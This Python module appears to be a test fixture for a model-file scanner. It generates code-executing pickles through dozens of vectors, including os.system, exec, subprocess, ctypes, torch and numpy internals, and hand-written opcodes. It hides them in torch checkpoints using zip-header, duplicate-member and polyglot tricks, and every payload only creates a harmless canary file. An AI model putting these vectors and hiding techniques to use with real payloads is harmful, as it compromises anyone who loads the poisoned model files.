"""Pickles that run code when they are opened, as they have been published, and the files in which they reach a reader.

Each makes one harmless file, the canary. A control opens them with torch, but without its guard, where they do run: a trick that does not
work would prove nothing.
"""

import functools
import importlib
import io
import operator
import os
import pickle
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import torch

Made = Callable[..., Any]


class Call:
    """Becomes a call of this function while it is unpickled."""

    def __init__(self, function: Made, *arguments: object) -> None:
        self._reduced = (function, arguments)

    def __reduce__(self) -> tuple[Made, tuple[object, ...]]:
        return self._reduced

    def __call__(self) -> None:
        """The result of a call may be called: the pickler asks for that."""


def found(name: str) -> Made:
    """A function by its path."""
    module, _, function = name.rpartition(".")
    made: Made = getattr(importlib.import_module(module), function)
    return made


def calls(canary: Path, folder: Path) -> dict[str, Any]:
    """Objects that run code while they are unpickled."""
    shell, code = f"touch {canary}", f"open({str(canary)!r}, 'w')"
    script, nested, array = folder / "script.py", folder / "nested.pkl", folder / "nested.npy"
    script.write_text(code)
    (folder / "hubconf.py").write_text(f"def model():\n    {code}\n")
    inner = pickle.dumps(Call(os.system, shell))
    nested.write_bytes(inner)
    array.write_bytes(inner)  # numpy.load takes a pickle for an array of objects
    legacy = io.BytesIO()
    torch.save(Call(os.system, shell), legacy, _use_new_zipfile_serialization=False)
    return {
        "os.system": Call(os.system, shell),
        "eval": Call(eval, code),
        "exec": Call(exec, code),
        "compile and exec": Call(exec, Call(compile, code, "x", "exec")),
        "open": Call(open, str(canary), "w"),
        "Path.touch": Call(Path.touch, canary),
        "getattr chain": Call(Call(getattr, Call(__import__, "os"), "system"), shell),
        "importlib": Call(Call(getattr, Call(importlib.import_module, "os"), "system"), shell),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", str(canary)]),
        "subprocess.check_output": Call(subprocess.check_output, ["touch", str(canary)]),
        "runpy": Call(found("runpy.run_path"), str(script)),
        "runpy._run_code": Call(found("runpy._run_code"), code, {}),
        "pty.spawn": Call(found("pty.spawn"), ["touch", str(canary)]),
        "functools.partial": Call(functools.partial(os.system, shell)),
        "map": Call(list, Call(map, os.system, [shell])),
        "operator.methodcaller": Call(operator.methodcaller("system", shell), Call(importlib.import_module, "os")),
        "operator.attrgetter": Call(Call(operator.attrgetter("system"), Call(importlib.import_module, "os")), shell),
        "codecs": Call(exec, Call(found("codecs.decode"), found("codecs.encode")(code, "rot13"), "rot13")),
        "pickle.loads": Call(pickle.loads, inner),
        "torch.storage._load_from_bytes": Call(found("torch.storage._load_from_bytes"), legacy.getvalue()),
        "torch.load": Call(functools.partial(torch.load, weights_only=False), str(nested)),
        "torch.hub": Call(found("torch.hub._load_local"), str(folder), "model"),
        "torch.utils.collect_env": Call(found("torch.utils.collect_env.run"), shell),
        "torch execWrapper": Call(found("torch.jit.unsupported_tensor_ops.execWrapper"), code, {}, {}),
        "numpy.load": Call(found("numpy.load"), str(array), None, True),
        "numpy runstring": Call(found("numpy.testing._private.utils.runstring"), code, {}),
        "timeit": Call(found("timeit.timeit"), code, "pass", found("time.perf_counter"), 1),
        "cProfile": Call(found("cProfile.run"), code),
        "pydoc.pipepager": Call(found("pydoc.pipepager"), "x", shell),
        "uuid": Call(found("uuid._get_command_stdout"), "touch", str(canary)),
        "spawnv": Call(os.spawnlp, os.P_WAIT, "touch", "touch", str(canary)),
        "ctypes": Call(Call(getattr, Call(found("ctypes.CDLL"), None), "system"), shell.encode()),
    }


def opcodes(canary: Path) -> dict[str, bytes]:
    """Pickles written by hand, with opcodes that Python itself does not write, or writes otherwise."""
    shell = f"touch {canary}"
    text = f"V{shell}\n".encode()
    short = [bytes([0x8C, len(each)]) + each.encode() for each in ("os", "system", "genericpath", "os.system", "posix")]
    system, module, dotted, posix = short[1], short[2], short[3], short[4]
    return {
        "INST": b"(" + text + b"ios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + text + b"o.",
        "STACK_GLOBAL": b"\x80\x04" + posix + system + b"\x93" + text + b"\x85R.",
        "STACK_GLOBAL of a dotted name": b"\x80\x04" + module + dotted + b"\x93" + text + b"\x85R.",
        "STACK_GLOBAL from the memo": b"\x80\x04" + posix + b"\x940" + system + b"\x940h\x00h\x01\x93" + text + b"\x85R.",
        "names in UTF-8": b"\x80\x02cos\nsystem\n" + f"V\\u0074ouch {canary}\n".encode() + b"\x85R.",
        "extension registry": b"\x80\x02ccopyreg\nadd_extension\n(Vos\nVsystem\nK\xeftR0\x82\xef" + text + b"\x85R.",
        "BUILD of __setstate__": b"cargparse\nNamespace\n)R}(V__setstate__\ncos\nsystem\nub" + text + b"b.",
        "a frame within a frame": b"\x80\x04\x95" + (0).to_bytes(8, "little") + posix + system + b"\x93" + text + b"\x85R.",
        "after STOP of another": b"\x80\x02N0cos\nsystem\n" + text + b"\x85R0}.",
        "reduce in a key": b"\x80\x02}cos\nsystem\n" + text + b"\x85RNs.",
    }


def pickles(canary: Path, folder: Path) -> dict[str, bytes]:
    """All of them."""
    return {name: pickle.dumps(call, 2) for name, call in calls(canary, folder).items()} | opcodes(canary)


def repacked(sound: Path, path: Path, data: bytes, twice: str = "") -> Path:
    """A sound checkpoint with another data.pkl; `twice`: with both, the other one first or last."""
    with zipfile.ZipFile(sound) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, content in members.items():
            if not name.endswith("data.pkl"):
                archive.writestr(name, content)
                continue
            members_named_so: dict[str, list[bytes]] = {"": [data], "first": [data, content], "last": [content, data]}
            for each in members_named_so[twice]:
                archive.writestr(name, each)
    return path


def with_other_local_header(sound: Path, path: Path, data: bytes) -> Path:
    """A sound checkpoint whose directory names the sound data.pkl, with a hostile one before it that a reader from the front finds."""
    name = zipfile.ZipFile(sound).namelist()[0]
    front = io.BytesIO()
    with zipfile.ZipFile(front, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, data)
        start = archive.start_dir
    path.write_bytes(front.getvalue()[:start] + sound.read_bytes())
    return path


def renamed_in_local_header(sound: Path, path: Path, data: bytes) -> Path:
    """The directory and the local header of the hostile member disagree about its name."""
    content = repacked(sound, path, data).read_bytes()
    place = content.index(b"data.pkl")
    path.write_bytes(content[:place] + b"data.bin" + content[place + 8 :])
    return path


def legacy_tar(path: Path, data: bytes) -> Path:
    """The oldest format of torch: a tar archive of pickles."""
    with tarfile.open(path, "w") as archive:
        for name in ("storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return path


def with_zip_behind(sound: Path, path: Path, data: bytes) -> Path:
    """For torch a legacy file, for a reader of zip archives a sound checkpoint."""
    path.write_bytes(data + sound.read_bytes())
    return path


def containers(sound: Path, path: Path, data: bytes) -> Iterator[tuple[str, Path]]:
    """Each file in which a pickle can take the place of a checkpoint."""
    beginning: tuple[object, ...] = (0x1950A86A20F9469CFC6C, 1001, {})  # of torch's format before zip
    magic = b"".join(pickle.dumps(each, 2) for each in beginning)
    yield "in place of data.pkl", repacked(sound, path, data)
    yield "a second data.pkl first", repacked(sound, path, data, "first")
    yield "a second data.pkl last", repacked(sound, path, data, "last")
    yield "before the archive", with_zip_behind(sound, path, data)
    yield "another local file", with_other_local_header(sound, path, data)
    yield "another name in the local header", renamed_in_local_header(sound, path, data)
    yield "legacy, with the archive behind", with_zip_behind(sound, path, magic + data)
    yield "legacy tar", legacy_tar(path, data)
    path.write_bytes(magic + data)
    yield "legacy", path
    path.write_bytes(data)
    yield "a bare pickle", path
